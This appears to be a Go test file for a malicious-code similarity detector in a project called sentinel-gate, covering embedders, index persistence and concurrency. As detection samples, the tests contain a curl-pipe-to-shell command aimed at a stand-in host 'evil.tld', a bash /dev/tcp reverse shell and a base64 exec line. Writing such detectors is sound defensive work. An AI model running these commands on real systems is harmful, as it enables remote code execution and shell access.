package similarity

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"math"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ollama/ollama/api"

	"github.com/af-corp/sentinel-gate/internal/config"
)

func testLogger() *slog.Logger { return slog.New(slog.NewTextHandler(io.Discard, nil)) }

func testConfig(path string) func() config.SimilarityConfig {
	return func() config.SimilarityConfig {
		return config.SimilarityConfig{Enabled: true, IndexPath: path, Threshold: 0.72, TopK: 3, Dim: 1024}
	}
}

func TestHashingEmbedderNormalized(t *testing.T) {
	e := NewHashingEmbedder(256)
	v := e.embed("import os\nos.system('ls')")
	if len(v) != 256 {
		t.Fatalf("dim = %d, want 256", len(v))
	}
	if n := dot(v, v); math.Abs(n-1) > 1e-5 {
		t.Errorf("norm^2 = %v, want 1", n)
	}
	if empty := e.embed("   "); dot(empty, empty) != 0 {
		t.Error("empty text should embed to the zero vector")
	}
}

func TestHashingEmbedderDeterministic(t *testing.T) {
	e := NewHashingEmbedder(1024)
	a := e.embed("exec(base64.b64decode(x))")
	b := e.embed("exec(base64.b64decode(x))")
	if dot(a, b) < 0.9999 {
		t.Errorf("same text similarity = %v", dot(a, b))
	}
}

func TestMapScore(t *testing.T) {
	tests := []struct {
		best, want float64
	}{
		{0.72, 0.4},
		{1.0, 0.9},
		{0.86, 0.65},
	}
	for _, tt := range tests {
		if got := MapScore(tt.best, 0.72); math.Abs(got-tt.want) > 1e-9 {
			t.Errorf("MapScore(%v) = %v, want %v", tt.best, got, tt.want)
		}
	}
}

func TestQueryCorpusMatch(t *testing.T) {
	d := NewDetector(NewHashingEmbedder(1024), testConfig(""), nil, testLogger())

	res, err := d.Query(context.Background(), "import os\nos.system('curl http://evil.tld/p | sh')")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Hits) == 0 || res.Hits[0].Name != "curl_pipe_shell" {
		t.Fatalf("hits = %+v, want curl_pipe_shell first", res.Hits)
	}
	if res.Score != 0.9 {
		t.Errorf("score = %v, want 0.9 for an identical snippet", res.Score)
	}
}

func TestQueryBenign(t *testing.T) {
	d := NewDetector(NewHashingEmbedder(1024), testConfig(""), nil, testLogger())
	res, err := d.Query(context.Background(), "def add(a, b): return a + b")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Hits) != 0 || res.Score != 0 {
		t.Errorf("benign result = %+v, want no hits", res)
	}
}

func TestExtraCorpus(t *testing.T) {
	extra := func() []Snippet {
		return []Snippet{{Name: "reverse_shell", Code: "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}}
	}
	d := NewDetector(NewHashingEmbedder(1024), testConfig(""), extra, testLogger())
	res, err := d.Query(context.Background(), "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Hits) == 0 || res.Hits[0].Name != "reverse_shell" {
		t.Errorf("hits = %+v, want reverse_shell", res.Hits)
	}
}

func TestIndexPersistence(t *testing.T) {
	path := filepath.Join(t.TempDir(), "idx", "malicious.json.zst")
	d := NewDetector(NewHashingEmbedder(1024), testConfig(path), nil, testLogger())
	if _, err := d.Rebuild(context.Background()); err != nil {
		t.Fatal(err)
	}

	ix, err := Load(path)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if ix.Len() != len(BuiltinCorpus()) {
		t.Errorf("loaded %d entries, want %d", ix.Len(), len(BuiltinCorpus()))
	}
	if err := ix.usableWith(NewHashingEmbedder(1024)); err != nil {
		t.Errorf("usableWith: %v", err)
	}
	if err := ix.usableWith(NewHashingEmbedder(512)); err == nil {
		t.Error("index should be unusable with a different dimension")
	}

	fresh := NewDetector(NewHashingEmbedder(1024), testConfig(path), nil, testLogger())
	res, err := fresh.Query(context.Background(), BuiltinCorpus()[0].Code)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Hits) == 0 {
		t.Error("loaded index returned no hits for a corpus snippet")
	}
}

func TestUnusableIndexIsRebuilt(t *testing.T) {
	path := filepath.Join(t.TempDir(), "idx.json.zst")
	small, err := Build(context.Background(), NewHashingEmbedder(64), BuiltinCorpus())
	if err != nil {
		t.Fatal(err)
	}
	if err := Save(path, small); err != nil {
		t.Fatal(err)
	}
	d := NewDetector(NewHashingEmbedder(1024), testConfig(path), nil, testLogger())
	if _, err := d.Query(context.Background(), "x"); err != nil {
		t.Fatal(err)
	}
	ix, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if ix.Dim != 1024 {
		t.Errorf("persisted dim = %d, want rebuilt 1024", ix.Dim)
	}
}

func TestConcurrentQueriesDuringRebuild(t *testing.T) {
	d := NewDetector(NewHashingEmbedder(1024), testConfig(""), nil, testLogger())
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			if i%4 == 0 {
				if _, err := d.Rebuild(context.Background()); err != nil {
					t.Error(err)
				}
				return
			}
			if _, err := d.Query(context.Background(), BuiltinCorpus()[i%6].Code); err != nil {
				t.Error(err)
			}
		}(i)
	}
	wg.Wait()
}

func ollamaServer(t *testing.T, dim int, calls *atomic.Int32) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/api/embed" {
			t.Errorf("path = %q", r.URL.Path)
		}
		var req api.EmbedRequest
		_ = json.NewDecoder(r.Body).Decode(&req)
		if req.Model != "nomic-embed-text" || req.Dimensions == 0 {
			t.Errorf("request = %+v", req)
		}
		calls.Add(1)
		text, _ := req.Input.(string)
		vec := make([]float32, dim)
		vec[len(text)%dim] = 3
		vec[0] += 4
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(api.EmbedResponse{Model: req.Model, Embeddings: [][]float32{vec}})
	}))
	t.Cleanup(srv.Close)
	return srv
}

func ollamaConfig(endpoint string, dim int) config.SimilarityConfig {
	return config.SimilarityConfig{
		Enabled: true, Threshold: 0.72, TopK: 3, Dim: dim,
		Embedder: "ollama", Endpoint: endpoint, Model: "nomic-embed-text", Timeout: time.Second,
	}
}

func TestOllamaEmbedder(t *testing.T) {
	var calls atomic.Int32
	srv := ollamaServer(t, 8, &calls)
	e, err := NewEmbedder(ollamaConfig(srv.URL, 8))
	if err != nil {
		t.Fatal(err)
	}
	if e.Name() != "ollama:nomic-embed-text" || e.Dim() != 8 {
		t.Errorf("embedder = %s/%d", e.Name(), e.Dim())
	}
	v, err := e.Embed(context.Background(), "abc")
	if err != nil {
		t.Fatalf("Embed() error: %v", err)
	}
	if n := dot(v, v); math.Abs(n-1) > 1e-5 {
		t.Errorf("norm^2 = %v, want 1", n)
	}
	if calls.Load() != 1 {
		t.Errorf("calls = %d, want 1", calls.Load())
	}
}

func TestOllamaEmbedderDimMismatch(t *testing.T) {
	var calls atomic.Int32
	srv := ollamaServer(t, 4, &calls)
	e, err := NewOllamaEmbedder(ollamaConfig(srv.URL, 4))
	if err != nil {
		t.Fatal(err)
	}
	e.dim = 16
	if _, err := e.Embed(context.Background(), "abc"); err == nil || !strings.Contains(err.Error(), "returned 4 dims") {
		t.Errorf("Embed() error = %v, want dim mismatch", err)
	}
}

func TestOllamaEmbedderUnavailable(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, `{"error":"model not found"}`, http.StatusNotFound)
	}))
	defer srv.Close()
	e, err := NewOllamaEmbedder(ollamaConfig(srv.URL, 8))
	if err != nil {
		t.Fatal(err)
	}
	d := NewDetector(e, testConfig(""), nil, testLogger())
	if _, err := d.Query(context.Background(), "x"); err == nil {
		t.Error("Query() should fail when the embedder is unreachable")
	}
}

func TestNewEmbedder(t *testing.T) {
	e, err := NewEmbedder(config.SimilarityConfig{Dim: 32})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := e.(*HashingEmbedder); !ok || e.Dim() != 32 {
		t.Errorf("default embedder = %T/%d, want hashing/32", e, e.Dim())
	}
	if _, err := NewEmbedder(config.SimilarityConfig{Embedder: "onnx"}); err == nil {
		t.Error("unknown embedder should fail")
	}
	if _, err := NewEmbedder(config.SimilarityConfig{Embedder: "ollama", Dim: 8}); err == nil {
		t.Error("ollama without a model should fail")
	}
}

func TestIndexSwitchesEmbedder(t *testing.T) {
	path := filepath.Join(t.TempDir(), "idx.json.zst")
	d := NewDetector(NewHashingEmbedder(8), testConfig(path), nil, testLogger())
	if _, err := d.Rebuild(context.Background()); err != nil {
		t.Fatal(err)
	}

	var calls atomic.Int32
	srv := ollamaServer(t, 8, &calls)
	e, err := NewOllamaEmbedder(ollamaConfig(srv.URL, 8))
	if err != nil {
		t.Fatal(err)
	}
	d = NewDetector(e, testConfig(path), nil, testLogger())
	if _, err := d.Query(context.Background(), "x"); err != nil {
		t.Fatal(err)
	}
	ix, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if ix.Embedder != "ollama:nomic-embed-text" {
		t.Errorf("persisted embedder = %q, want rebuilt with ollama", ix.Embedder)
	}
	if int(calls.Load()) != ix.Len()+1 {
		t.Errorf("embed calls = %d, want %d corpus + 1 query", calls.Load(), ix.Len())
	}
}
